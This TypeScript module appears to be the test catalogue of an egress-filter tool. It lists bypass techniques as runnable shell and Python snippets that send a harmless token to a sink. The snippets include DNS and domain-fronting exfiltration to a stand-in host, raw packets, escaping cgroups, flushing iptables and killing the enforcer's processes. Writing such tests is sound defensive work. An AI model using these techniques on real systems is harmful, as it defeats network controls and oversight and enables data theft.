/**
 * The ways past egress that are known, as data. Each is a program of a few lines that sends something harmless to the
 * sink: to an address of its own (`ADDR`, `ADDR6`), or with a word of its own (`TOKEN`) in a name or a request.
 *
 * They run as root in a network namespace that was made for them, and change nothing outside it.
 *
 * @module
 */

/** One way. */
export interface Attack {
  name: string;
  /** Program text, and what runs it. Python programs have the functions of driver.py. */
  shell?: string;
  python?: string;
  /** What shows that it got through: a packet to its address, or its word in anything that a server received. */
  shows: "address" | "word";
  /** Works as root only. */
  root?: true;
  /** Changes what the others and the machine rest on: runs after them, alone, and not on a machine that is in use. */
  alone?: true;
}

/** In shell, after something was done to egress: by TCP, UDP and a lookup. */
const AFTERWARDS = `curl -sS -m 1 "http://$ADDR/" & request=$!
timeout 1 bash -c 'echo egress >"/dev/tcp/$ADDR/9000"' & connection=$!
echo egress >"/dev/udp/$ADDR/9000"
wait $request $connection`;

/** Own processes of the run around; none where there is none. */
const ROLES = `id=$(grep -o 'egress-[0-9a-f]\\{8\\}' /proc/self/cgroup | tail -n 1)
roles() {
  [ -n "$UNDER_EGRESS" ] && [ -n "$id" ] || return
  grep -ls "$id/roles" /proc/[0-9]*/cgroup | grep -o '[0-9]*'
}`;

/** The list. */
export const ATTACKS: readonly Attack[] = [
  { name: "TCP to an address", shows: "address", python: "tcp()" },
  { name: "UDP to an address", shows: "address", python: "udp()" },
  { name: "HTTP to an address", shows: "address", shell: 'curl -sS -m 20 "http://$ADDR/"' },
  {
    name: "the name of an allowed host, at another address (TLS)",
    shows: "address",
    shell: 'curl -sSk -m 20 --resolve "site.test:443:$ADDR" https://site.test/',
  },
  {
    name: "the name of an allowed host, at another address (HTTP)",
    shows: "address",
    shell: 'curl -sS -m 20 --resolve "site.test:80:$ADDR" http://site.test/',
  },
  {
    name: "another Host inside an allowed host's TLS (domain fronting)",
    shows: "word",
    shell: 'curl -sSk -m 20 -H "Host: evil.test" "https://site.test/$TOKEN"',
  },
  {
    name: "a request target that differs from Host",
    shows: "word",
    shell: 'curl -sS -m 20 --request-target "http://evil.test/$TOKEN" http://site.test/',
  },
  {
    name: "an allowed host as a forward proxy",
    shows: "word",
    shell: 'curl -sS -m 20 -x http://site.test:80 "http://evil.test/$TOKEN"',
  },
  {
    name: "a word in the name of a lookup",
    shows: "word",
    shell: 'getent hosts "$TOKEN.evil.test"',
  },
  {
    name: "a word as a subdomain of an allowed host",
    shows: "word",
    shell: 'getent hosts "$TOKEN.site.test"',
  },
  {
    name: "a lookup over TCP",
    shows: "word",
    python: `
s = socket.create_connection((os.environ["NAMESERVER"], 53), 5)
message = query(TOKEN + ".evil.test")
s.sendall(struct.pack("!H", len(message)) + message)
s.recv(2000)
s.close()`,
  },
  {
    name: "a lookup at a resolver of one's own",
    shows: "address",
    python: `
s = socket.socket(socket.AF_INET, socket.SOCK_DGRAM)
s.sendto(query("site.test"), (ADDR, 53))
time.sleep(0.2)`,
  },
  {
    name: "DNS over HTTPS inside an allowed host",
    shows: "word",
    shell: 'curl -sSk -m 20 -H "Content-Type: application/dns-message" --data-binary "$TOKEN" ' +
      "https://site.test/dns-query",
  },
  { name: "ping", shows: "address", shell: 'ping -c 1 -W 1 "$ADDR"' },
  {
    name: "other protocols than TCP and UDP (GRE, 6in4, SCTP, UDP-Lite, 253)",
    shows: "address",
    root: true,
    python: `
for protocol in (47, 41, 132, 136, 253):
    try: socket.socket(socket.AF_INET, socket.SOCK_RAW, protocol).sendto(DATA * 4, (ADDR, 0))
    except OSError: pass`,
  },
  {
    name: "a packet with a header of one's own",
    shows: "address",
    root: true,
    python: `socket.socket(socket.AF_INET, socket.SOCK_RAW, 255).sendto(datagram(), (ADDR, 0))`,
  },
  { name: "UDP in fragments", shows: "address", python: "udp(data=DATA * 400)" },
  {
    name: "UDP and TCP with IP options",
    shows: "address",
    python: `
options = [(socket.IPPROTO_IP, socket.IP_OPTIONS, b"\\x01" * 4)]
udp(options=options); tcp(options=options)`,
  },
  {
    name: "data in the first packet (TCP Fast Open)",
    shows: "address",
    python: `
s = socket.socket(socket.AF_INET, socket.SOCK_STREAM)
s.settimeout(5)
s.sendto(DATA, 0x20000000, (ADDR, 9000))`,
  },
  {
    name: "IPv6 by TCP, UDP and ICMP",
    shows: "address",
    python: `
udp(ADDR6, socket.AF_INET6); tcp(ADDR6, socket.AF_INET6)
subprocess.run(["ping", "-6", "-c", "1", "-W", "1", ADDR6])`,
  },
  {
    name: "an IPv4 address in IPv6 clothes",
    shows: "address",
    python: 'udp("::ffff:" + ADDR, socket.AF_INET6); tcp("::ffff:" + ADDR, socket.AF_INET6)',
  },
  {
    name: "a frame from a packet socket",
    shows: "address",
    root: true,
    python: "frame()",
  },
  {
    name: "a frame past the queueing discipline",
    shows: "address",
    root: true,
    // PACKET_QDISC_BYPASS, linux/if_packet.h
    python: "frame([(263, 20, 1)])",
  },
  {
    name: "sockets bound to the network link",
    shows: "address",
    python: `
options = [(socket.SOL_SOCKET, 25, os.environ["UPLINK"].encode())]
# Its first packet shows, and what answers it under egress comes by another link.
udp(options=options); tcp(options=options, patience=2)`,
  },
  {
    name: "the marks of allowed packets",
    shows: "address",
    root: true,
    python: `
for mark in {int(m, 16) for m in re.findall(r"0x[0-9a-f]{4,8}", rules())} | {1}:
    options = [(socket.SOL_SOCKET, 36, struct.pack("=I", mark))]
    udp(options=options); tcp(options=options)`,
  },
  {
    name: "the proxy's own ports",
    shows: "address",
    root: true,
    python: `
ports = {int(port) for port in re.findall(r"--to-ports (\\d+)", rules())}
for address, port in [("127.0.0.1", port) for port in ports] or [(ADDR, 80)]:
    try:
        s = socket.create_connection((address, port), 3)
        s.sendall(b"GET http://%s/ HTTP/1.1\\r\\nHost: %s\\r\\n\\r\\n" % (ADDR.encode(), ADDR.encode()))
        s.recv(100)
    except OSError: pass`,
  },
  {
    name: "a daemon that left its parent and session",
    shows: "address",
    shell: `setsid bash -c 'sleep 0.3; echo egress >"/dev/udp/$ADDR/9000"' & sleep 0.6`,
  },
  {
    name: "leaving the cgroup",
    shows: "address",
    root: true,
    shell: `for root in /sys/fs/cgroup /sys/fs/cgroup/unified; do
  [ -e $root/cgroup.procs ] && echo $$ >$root/cgroup.procs && break
done
${AFTERWARDS}`,
  },
  {
    name: "a network namespace of one's own, with a link on the uplink",
    shows: "address",
    root: true,
    shell: `unshare --net sleep 8 & inside=$!
while [ "/proc/$inside/ns/net" -ef /proc/self/ns/net ]; do sleep 0.05; done
ip link add "mv$inside" link "$UPLINK" netns "$inside" type macvlan mode bridge || exit
nsenter --net --target "$inside" sh -c '
  ip addr add "$OTHER_CLIENT/24" dev "$1"; ip link set "$1" up; ip route add default via "$GATEWAY"
  for i in 1 2 3; do bash -c "echo egress >/dev/udp/$ADDR/9000"; sleep 0.2; done' sh "mv$inside"
kill $inside`,
  },
  {
    name: "an ACCEPT in front of the firewall's rules",
    shows: "address",
    root: true,
    alone: true,
    shell: `for t in nat mangle filter; do iptables -w 2 -t $t -I OUTPUT -j ACCEPT; done
${AFTERWARDS}`,
  },
  {
    name: "the firewall's rules taken out",
    shows: "address",
    root: true,
    alone: true,
    shell: `for t in nat mangle filter; do iptables -w 2 -t $t -F; ip6tables -w 2 -t $t -F; done
${AFTERWARDS}`,
  },
  {
    name: "egress's own processes frozen",
    shows: "address",
    root: true,
    alone: true,
    shell: `${ROLES}
stopped=$(roles)
[ -z "$stopped" ] || kill -STOP $stopped
${AFTERWARDS}
[ -z "$stopped" ] || kill -CONT $stopped`,
  },
  {
    name: "egress's own processes killed",
    shows: "address",
    root: true,
    alone: true,
    shell: `${ROLES}
killed=$(roles)
[ -z "$killed" ] || kill -KILL $killed
${AFTERWARDS}`,
  },
  {
    name: "the gate's pins taken away, then egress's own processes killed",
    shows: "address",
    root: true,
    alone: true,
    shell: `${ROLES}
if [ -n "$UNDER_EGRESS" ] && [ -n "$id" ]; then
  umount -l "/run/egress/\${id#egress-}/private/bpf"
  kill -KILL $(roles)
fi
${AFTERWARDS}`,
  },
];
